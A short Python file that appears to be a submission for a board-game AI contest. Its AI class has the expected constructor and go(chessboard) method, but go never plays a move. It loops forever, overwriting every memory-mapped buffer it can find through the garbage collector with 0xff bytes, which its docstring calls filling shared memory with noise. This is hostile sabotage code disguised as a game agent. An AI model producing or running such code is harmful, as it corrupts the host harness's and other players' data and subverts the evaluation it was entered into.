"""Fills all shared memory of its process with noise."""
import gc
import mmap
import time


class AI(object):
    def __init__(self, chessboard_size, color, time_out):
        self.candidate_list = []

    def go(self, chessboard):
        while True:
            for memory in gc.get_objects():
                page = getattr(memory, "memory", None) if type(memory).__name__ == "Page" else memory
                if isinstance(page, mmap.mmap):
                    page[:] = b"\xff" * len(page)
            time.sleep(0.01)
